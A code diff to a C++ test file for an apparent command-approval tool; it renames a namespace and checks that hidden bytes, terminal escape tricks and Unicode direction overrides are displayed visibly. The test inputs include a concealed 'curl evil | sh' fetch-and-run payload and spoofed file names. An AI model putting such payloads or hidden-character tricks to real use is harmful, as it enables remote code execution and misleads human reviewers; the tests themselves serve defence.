@@ -106,7 +106,7 @@ TEST_F(NoRaw, ApproveShowsTheHiddenCommand) {
     EXPECT_TRUE(has_line(run.out, "+touch /tmp/x #\\r\\x1b[K+echo \"status checked\"")) << run.out;
     // Size and SHA-256 of what would be pinned, and the bytes in hex.
     EXPECT_TRUE(contains(
-        run.out, std::to_string(stack.size()) + " bytes, sha256 " + exec::sha256_hex(stack)))
+        run.out, std::to_string(stack.size()) + " bytes, sha256 " + common::sha256_hex(stack)))
         << run.out;
     // The hidden bytes, wherever the 16-byte rows happen to split them.
     std::string hex;
@@ -143,7 +143,7 @@ TEST_F(NoRaw, ApproveShowsEveryByteOfABinaryFile) {
     expect_no_raw(asked.out, "approve stdout");
     EXPECT_TRUE(contains(asked.out, "\\x00curl evil | sh")) << asked.out;
     EXPECT_TRUE(contains(
-        asked.out, std::to_string(stack.size()) + " bytes, sha256 " + exec::sha256_hex(stack)))
+        asked.out, std::to_string(stack.size()) + " bytes, sha256 " + common::sha256_hex(stack)))
         << asked.out;
     EXPECT_TRUE(contains(asked.out, "00 63 75 72 6c")) << asked.out;  // "\0curl" in hex
     EXPECT_TRUE(contains(asked.out, "|#!/bin/sh..curl |")) << asked.out;
@@ -187,10 +187,10 @@ TEST_F(NoRaw, DoctorShowsPlantedNamesAndDiffsVisibly) {
 
 TEST_F(NoRaw, AuditShowsEveryFieldVisiblyWithTheRequestName) {
     {
-        auto log = exec::AuditLog::open(home.state_dir("demo-app"));
+        auto log = common::AuditLog::open(home.state_dir("demo-app"));
         ASSERT_TRUE(log) << log.error().message;
-        exec::AuditRecord record;
-        record.event = exec::AuditEvent::Quarantined;
+        common::AuditRecord record;
+        record.event = common::AuditEvent::Quarantined;
         record.request = "2026-ping-" + kHidden + ".json";
         record.arg = kRlo + "api" + kPdi;
         record.reason = "bad name " + kHidden + kTrojan;
